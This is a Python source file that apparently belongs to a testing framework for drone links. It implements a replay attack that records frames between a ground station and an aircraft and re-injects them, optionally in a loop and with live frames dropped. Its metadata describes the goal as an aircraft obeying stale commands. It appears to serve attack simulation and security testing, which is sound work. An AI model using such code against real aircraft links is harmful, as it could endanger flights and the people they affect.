"""Replay on a link: recorded frames are put on it again later, in place of the true ones or beside them."""

from __future__ import annotations

from collections import deque
from functools import partial
from typing import Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.on_path import MAX_INJECTS, inject_again
from skyrange.attack.bases.shams import benign_payload

MAX_FRAMES: Final = 100_000
"""Frames that the record of a link holds; the oldest are discarded."""


@sky.attack(
    "link.replay",
    technique="T0855",
    persists="mode",
    effect="an aircraft obeys commands of earlier, or a station sees a flight of earlier",
    knowledge="nothing of the protocol; it learns the frames that it records",
    position="on the path, such as a router between ground station and aircraft, already before the attack",
    equipment="a computer that forwards and records the frames",
    budget="one frame for each frame recorded, again in each turn of a loop",
    load="the sham: benign frames of the same length at the same times",
    content="a replay of HEARTBEATs alone, which order nothing",
    placement="the same replay on another aircraft's link, or of the other direction",
)
class FrameReplay(sky.OnPath):
    """Records frames of a link and puts them on it again later, once or in a loop.

    It records the selected frames until the attack starts, and then plays the record with its own timing. Bytes are
    repeated as they are, so a signed frame is refused by a receiver that checks its timestamp.
    """

    direction: Literal["fwd", "rev", "both"] = sky.param(
        "fwd: towards the aircraft on gcs, log and autopilot; rev: from it.", default="fwd"
    )
    record_s: sky.Number = sky.param(
        "Length of the record in seconds: what passed within this time before the attack starts.",
        default=30.0, gt=0, le=3600,
    )  # fmt: skip
    loop: bool = sky.param("Whether the record is played again and again, without a pause.", default=False)
    drop_live: bool = sky.param(
        "Whether the selected frames that pass meanwhile are dropped, so that receivers get the record alone.",
        default=False,
    )
    record_ns: sky.Time
    record: deque[tuple[sky.Time, sky.Inject]] = sky.state(partial(deque, maxlen=MAX_FRAMES))
    """When each frame passed, and its copy; the oldest first."""
    played: int = 0
    """Number of copies put on the link."""
    woken_ns: sky.Time = -sky.NEVER

    def prepare(self, context: sky.AttackContext) -> None:
        self.record_ns = sky.from_seconds(self.record_s)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        if now >= self.schedule.start_ns:
            return super().on_frame(now, frame)
        if self.selects(frame):
            copy = inject_again(frame, benign_payload(frame.payload) if self.sham else frame.payload)
            self.record.append((now, copy))
            self._discard_before(now - self.record_ns)
        return ()

    def act(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        return (sky.Drop(),) if self.drop_live else ()

    def next_wakeup(self) -> sky.Time | None:
        """When the next copy is due; `None` while the start of the attack is not known."""
        start = self.schedule.start_ns
        if start == sky.NEVER:
            return None
        if self.played == 0:
            self._discard_before(start - self.record_ns)
        due = self._due(start)
        return max(due, self.woken_ns + 1) if due is not None and due < self.schedule.stop_ns else None

    def on_wakeup(self, now: sky.Time) -> sky.Verdicts:
        self.woken_ns = now
        made: list[sky.Verdict] = []
        while len(made) < MAX_INJECTS:
            due = self._due(self.schedule.start_ns)
            if due is None or due > now:
                break
            made.append(self.record[self.played % len(self.record)][1])
            self.played += 1
        return made

    def _due(self, start: sky.Time) -> sky.Time | None:
        """When the next copy is due; `None` at the end of the record."""
        count = len(self.record)
        if count == 0 or (self.played >= count and not self.loop):
            return None
        turn, place = divmod(self.played, count)
        return self.record[place][0] + (turn + 1) * self.record_ns

    def _discard_before(self, oldest: sky.Time) -> None:
        while self.record and self.record[0][0] < oldest:
            self.record.popleft()
